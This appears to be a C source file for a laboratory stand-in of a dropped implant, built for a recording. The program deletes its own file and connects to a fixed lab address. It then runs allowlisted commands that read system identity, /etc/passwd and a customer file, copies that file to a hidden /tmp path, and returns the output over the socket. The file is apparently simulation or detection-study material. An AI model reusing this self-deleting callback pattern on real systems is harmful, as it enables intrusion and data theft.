/* The stand-in for a dropped program: removes its own file, calls one address of the laboratory and can do only
   what PLAN lists. Built by record.sh before the recording. */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static char *const PLAN[][6] = {
    {"who", "/usr/bin/id"},
    {"where", "/usr/bin/uname", "-a"},
    {"list", "/usr/bin/ls", "-la", "/opt/lab/site"},
    {"users", "/usr/bin/head", "-n", "3", "/etc/passwd"},
    {"copy", "/usr/bin/cp", "/opt/lab/site/customers.csv", "/tmp/.y"},
};

int main(int argc, char **argv) {
  (void)argc;
  unlink(argv[0]);
  struct sockaddr_in home = {.sin_family = AF_INET, .sin_port = htons(8443)};
  inet_pton(AF_INET, "10.66.4.9", &home.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr *)&home, sizeof home)) return 1;
  FILE *in = fdopen(dup(s), "r");
  char word[64];
  while (fgets(word, sizeof word, in)) {
    word[strcspn(word, "\r\n")] = 0;
    for (unsigned i = 0; i < sizeof PLAN / sizeof *PLAN; i++) {
      if (strcmp(PLAN[i][0], word)) continue;
      pid_t child = fork();
      if (child == 0) {
        dup2(s, 1);
        execv(PLAN[i][1], PLAN[i] + 1);
        _exit(127);
      }
      waitpid(child, NULL, 0);
      dprintf(s, "ok\n");
    }
  }
  return 0;
}
